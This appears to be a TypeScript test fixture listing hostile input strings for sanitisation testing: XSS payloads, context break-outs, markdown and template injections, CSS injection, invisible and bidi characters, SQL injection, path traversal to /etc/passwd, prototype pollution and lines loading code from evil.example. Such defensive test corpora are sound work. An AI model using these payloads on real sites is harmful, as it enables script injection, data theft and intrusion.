// Hostile texts in families: each is a few openings times a few payloads, or a few signs times a few words. A payload
// that runs calls RUN, which the watched page counts (watched-page.ts).

const RUN = 'hurt()'

const crossed = (ones: readonly string[], others: readonly string[], join: (one: string, other: string) => string) =>
  ones.flatMap((one) => others.map((other) => join(one, other)))

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}"//`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}/>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>X</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">X</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>X</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>X</select>`,
  `<marquee onstart=${RUN}>X</marquee>`,
  `<form action="javascript:${RUN}"><button>X</button></form>`,
  `<button formaction="javascript:${RUN}">X</button>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<dialog open onclose=${RUN}>X</dialog>`,
  `<portal src="//evil.example">`,
  `<x contenteditable onblur=${RUN}>X</x>`,
]
/** Ways to break out of the context of a text: an attribute, a comment, a script, a title, a text field, JSON. */
const BREAK_OUTS = ['">', `'>`, '</title>', '</textarea>', '</script>', '-->', ']]>', '\\u003c/script>', '"}</script>']

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onclick', 'onpointerenter', 'onanimationstart'].map(
  (handler) => `x" ${handler}="${RUN}" autofocus tabindex="0`,
)

const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript&colon;', 'vbscript:']
const ADDRESSES = [
  ...SCHEMES.flatMap((scheme) => [`${scheme}${RUN}`, `${scheme}//%0a${RUN}`]),
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=`,
  `blob:https://evil.example/x`,
  `//evil.example/x.png`,
  `/\\evil.example/x.png`,
  `https:evil.example`,
]

const MARKDOWN = [
  ...ADDRESSES.slice(0, 8).map((address) => `[press](${address})`),
  ...ADDRESSES.slice(0, 4).map((address) => `![press](${address})`),
  `[press](<javascript:${RUN}>)`,
  `[press]( javascript:${RUN} "title")`,
  `[press][ref]\n\n[ref]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onmouseover="${RUN}>`,
  `![x](x"onerror="${RUN})`,
  `![x" onerror="${RUN}](/news/x.png)`,
  `[x](https://evil.example "onmouseover=${RUN}")`,
  `[a](https://evil.example)<img src=x onerror=${RUN}>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `    <script>${RUN}</script>`,
  `> <img src=x onerror=${RUN}>`,
  `* <svg onload=${RUN}>`,
  `<p>\n\n<script>${RUN}</script>\n\n</p>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN}`,
  `${'> '.repeat(40)}deep`,
  `${'**'.repeat(30)}stars`,
  `[[[[[[[[x]]]]]]]](${'('.repeat(20)}`,
]

/** The syntax of template languages, of our own translations, and of their formats. */
const TEMPLATES = crossed(
  [RUN, '7*7', 'constructor.constructor("hurt()")()', 'name', '$t(game:say.label)'],
  ['{{$}}', '{{- $}}', '${$}', '#{$}', '<%= $ %>', '{$}', '{$, plural, other {#}}', '$t($)', '{{$, format}}'],
  (inside, around) =>
    around
      .replace('$}', `${inside}}`)
      .replace('$ %', `${inside} %`)
      .replace('$,', `${inside},`)
      .replace('($)', `(${inside})`),
)
const I18N = [
  '{{count}}',
  '{{name}} {{outcome}}',
  '$t(log.entered)',
  '<1>hurt</1>',
  '<0/>',
  '__proto__',
  '{{__proto__.x}}',
  '$1 $& $` $$',
]

const STYLES = [
  'red;background:url(javascript:hurt())',
  '#fff;}*{display:none}',
  'expression(hurt())',
  '</style><script>hurt()</script>',
  'url("//evil.example/x.png")',
  '@import "//evil.example/x.css";',
  'style="position:fixed;inset:0;z-index:99999"',
  'x{}body{background:url(//evil.example)}',
]

const BIDI = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\u202b']
const INVISIBLE = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u3164',
  '\u{e0041}',
  '\ufe0f',
]
const BREAKS = ['\u2028', '\u2029', '\u0085', '\u000b', '\u000c', '\r\n', '\n\n\n', '\t']
const CONTROLS = [
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u0008',
  '\u007f',
  '\u009b',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udfff',
]
const SIGNS = [...BIDI, ...INVISIBLE, ...BREAKS, ...CONTROLS]
const PLACES = [(sign: string) => `sa${sign}fe`, (sign: string) => `${sign}<b>x</b>${sign}`]

const ZALGO = ['\u0301', '\u0489', '\u20dd', '\u0334'].map((mark) => `za${mark.repeat(60)}lgo`)
const LONG = [
  'a'.repeat(118),
  'æ'.repeat(118),
  '👩‍👩‍👧‍👦'.repeat(16),
  'W'.repeat(100),
  '\ufdfd'.repeat(20),
  '&amp;'.repeat(20),
  '<'.repeat(100),
]

/** Texts that break programs that concatenate code. */
const OTHERS = [
  `'; drop table user; --`,
  `" or 1=1 --`,
  `%' escape '\\' --`,
  `%_\\%`,
  `../../../../etc/passwd`,
  `%00%0d%0aSet-Cookie: x=1`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `‹script›${RUN}`,
  `<!--#exec cmd="ls"-->`,
  `<!--`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>`,
  `{"__proto__":{"polluted":true}}`,
  `constructor[prototype][polluted]=true`,
  `=HYPERLINK("//evil.example")`,
  `null`,
  `undefined`,
  `NaN`,
  `[object Object]`,
  `true`,
  `-0`,
  `1e999`,
]

/** All hostile texts, each once. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...ELEMENTS,
    ...crossed(BREAK_OUTS, ELEMENTS.slice(0, 6), (out, element) => `${out}${element}`),
    ...HANDLERS,
    ...ADDRESSES,
    ...MARKDOWN,
    ...TEMPLATES,
    ...I18N,
    ...STYLES,
    ...PLACES.flatMap((placed) => SIGNS.map(placed)),
    ...ZALGO,
    ...LONG,
    ...OTHERS,
  ]),
]

/** Harmless texts, for comparison: two in each row. */
export const HARMLESS_TEXTS: readonly string[] = Array.from({ length: 40 }, (_, place) => `en rar hund nr ${place}.`)
